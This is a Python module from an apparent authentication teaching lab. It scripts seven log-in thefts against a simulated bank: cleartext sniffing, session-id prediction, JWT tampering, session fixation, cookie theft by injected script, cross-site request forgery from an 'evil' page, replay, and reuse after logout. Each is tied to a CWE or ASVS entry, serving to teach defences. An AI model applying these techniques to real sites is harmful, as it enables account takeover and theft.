"""The thefts of a log-in (notebook 07): each runs on the session bank and on the token bank.

Every function returns the loot, "" for none, and why the theft failed if it did.
"""

import re
from itertools import islice

from flask import Response
from werkzeug.http import dump_cookie

from authlab.attacks.ids import guess_ids
from authlab.attacks.stage import EVIL, HOME, SHOP, Credential, Stage, bearer
from authlab.bank import BANK
from authlab.web import Window

__all__ = ["ATTACKS"]

_COLLECTED = 8  # ids Mallory asks for before she guesses
_MOST_GUESSES, _NEIGHBOURS = 2_000, 50  # where ids rise, and where they do not
_UPTIME = 3_600  # seconds since the bank's server started, at most: the seeds to try


@Stage.theft("Sniff the wire", "a place between Alice and the bank, such as the same café",
             ("https",), ("CWE-319", "ASVS 3.3.1", "ASVS 12.2.1"))  # fmt: skip
def sniff(stage: Stage) -> tuple[str, str]:
    """Read what goes by while Alice, who typed the address without https, logs in."""
    tap, stage.tapped = stage.network.wiretap(), True
    stage.alice.address = f"http://{BANK}"
    stage.log_in_alice()
    stage.alice.balance()
    tap.stop()
    clear = [capture.request for capture in tap.seen if capture.request is not None]
    found = re.findall(r"^(Cookie|Authorization): (.+?)\r?$", "\n".join(clear), re.M | re.I)
    if loot := stage.spend_any(Credential(*each) for each in found):
        return loot, ""
    if found:
        return "", "A credential went by in clear, but the bank did not take Mallory's copy."
    count = f"Of {len(tap.seen)} calls {len(clear)}"
    return "", f"{count} went by in clear, and none with a credential."


@Stage.theft("Predict the id", "a few ids of her own",
             ("random",), ("CWE-340", "CWE-330", "ASVS 7.2.3"))  # fmt: skip
def predict(stage: Stage) -> tuple[str, str]:
    """Collect ids, find how they are made, and guess the one Alice got."""
    with stage.quietly():
        seen = [found for _ in range(_COLLECTED) for found in stage.visit()]
    if not seen:
        return _edit_token(stage)
    stage.say("thief", "bank", f"visits {_COLLECTED} times and collects ids", seen[-1].value)
    stage.log_in_alice()
    seen += stage.visit()
    name = seen[0].value.partition("=")[0]
    collected = [found.value.partition("=")[2] for found in seen]
    guesses = guess_ids(collected, stage.clock.now(), back=_UPTIME)
    # Alice came between Mallory's last two visits. Where ids rise, hers lies between those two.
    ranks = [(len(text), text) for text in collected]
    if ranks == sorted(ranks):
        first = islice(guesses, _MOST_GUESSES)
        likely = [guess for guess in first if ranks[-2] < (len(guess), guess) < ranks[-1]]
    else:
        likely = list(islice(guesses, _NEIGHBOURS))
    for number, guess in enumerate(likely, 1):
        with stage.quietly():
            loot = stage.spend(Credential("Cookie", f"{name}={guess}"))
        if loot:
            stage.say("thief", "bank", f"guess {number} is right", f"Cookie: {name}={guess}")
            return loot, ""
    made = f"{len(collected)} ids collected, {len(likely)} guesses made"
    return "", f"{made}: none of them let her in."


def _edit_token(stage: Stage) -> tuple[str, str]:
    """Without ids there is a token to guess: Mallory edits her own."""
    mine = stage.log_in_mallory()[-1]
    stage.log_in_alice()
    head, _, tail = mine.value.partition(".")
    edited = f"{head}.eyJzdWIiOiJhbGljZSJ9.{tail.rpartition('.')[2]}"
    loot = stage.spend(Credential(mine.header, edited))
    return loot, "A token is no number that can be guessed: the edited one has a wrong signature."


@Stage.theft("Fixate the id",
             "a way to set a cookie for the bank, such as a careless neighbour under bank.test",
             ("rotate",), ("CWE-384", "ASVS 7.2.4", "ASVS 3.3.3"))  # fmt: skip
def fixate(stage: Stage) -> tuple[str, str]:
    """Plant a known id in Alice's browser, through a neighbour's host, and wait for her login."""
    known = stage.visit() or stage.log_in_mallory()
    planted = next((each for each in known if each.header == "Cookie"), None)
    if planted is None:
        return "", "There is nothing to plant: a page of Mallory's cannot write the bank's storage."
    name, _, value = planted.value.partition("=")
    cookie = dump_cookie(name, value, domain=BANK)
    stage.network.host(SHOP, Response("A shop.", headers={"Set-Cookie": cookie}))
    stage.alice.browser.goto(SHOP + "/")
    stage.say("thief", "alice", "a page of a neighbour's host", f"Set-Cookie: {cookie}")
    stage.log_in_alice()
    return stage.spend(planted), "What Mallory had planted did not log her in as Alice."


@Stage.theft("Steal by injected script", "a hole through which her script runs in the bank's page",
             ("httponly",), ("CWE-79", "CWE-1004", "ASVS 3.3.4"))  # fmt: skip
def inject(stage: Stage) -> tuple[str, str]:
    """Have a script of Mallory's run in the bank's own page, and send home what it can read."""

    def read(window: Window) -> list[Credential]:
        pairs = filter(None, map(str.strip, window.document_cookie.split(";")))
        found = [Credential("Cookie", pair) for pair in pairs]
        token = window.local_storage.get("token")
        return [*found, bearer(token)] if token else found

    stage.log_in_alice()
    found = stage.run_in_page(read)
    for credential in found:
        stage.say("alice", "thief", "the script sends home what it read", str(credential))
        if loot := stage.spend(credential):
            return loot, ""
    if found:
        return "", "The script sent home a copy, but the bank did not take it from Mallory."
    stage.say("alice", "thief", "the script sends home what it read", "nothing")
    return "", "document.cookie and both storages held nothing that logs anybody in."


@Stage.theft("Ride on Alice's browser", "Alice opens a page of Mallory's while she is logged in",
             ("samesite",), ("CWE-352", "ASVS 3.3.2", "ASVS 3.5.1"))  # fmt: skip
def ride(stage: Stage) -> tuple[str, str]:
    """Have Alice open Mallory's page, whose form sends a transfer from Alice's browser."""
    stage.log_in_alice()
    browser, action = stage.alice.browser, f"{HOME}/transfer"
    page = browser.goto(EVIL + "/")
    stage.say("thief", "alice", "a page with a hidden form", f"action={action}")
    reply = browser.submit(action, {"to": "mallory", "amount": "10"}, from_page=page)
    if reply.status == 200:
        return "had Alice's own browser send 10 euros to Mallory", ""
    held = [entry.decision for entry in browser.log if entry.step == "cookie withheld"]
    why = "The request came without a credential"
    if held and held[-1] is not None:
        why = f"The browser withheld the cookie ({held[-1].why})"
    return "", f"{why}, and the bank answered {reply.status}."


@Stage.theft("Use a copy elsewhere",
             "a copy of what Alice's browser holds, from malware or a backup",
             ("address",), ("CWE-294", "ASVS 10.3.5"), residual=True)  # fmt: skip
def replay(stage: Stage) -> tuple[str, str]:
    """Use a copy, taken from Alice's computer, on another one: first as it is, then disguised."""
    for credential in stage.copy_login("malware copies the credential"):
        if loot := stage.spend(credential, agent="Mallory/1.0"):
            return loot, ""
        if loot := stage.spend(credential):
            return f"{loot}, in a browser that claims to be hers", ""
    return "", "The bank refused the copy, whatever browser it claimed to come from."


@Stage.theft("Outlive the log-out", "a copy from before Alice logged out",
             ("logout",), ("CWE-613", "ASVS 7.4.1"))  # fmt: skip
def outlive(stage: Stage) -> tuple[str, str]:
    """Keep a copy from a shared computer, wait until Alice has logged out, then use it."""
    copies = stage.copy_login("a shared computer keeps a copy")
    stage.alice.log_out()
    return stage.spend_any(copies), "The bank did not take the copy once Alice had logged out."


ATTACKS = [sniff, predict, fixate, inject, ride, replay, outlive]
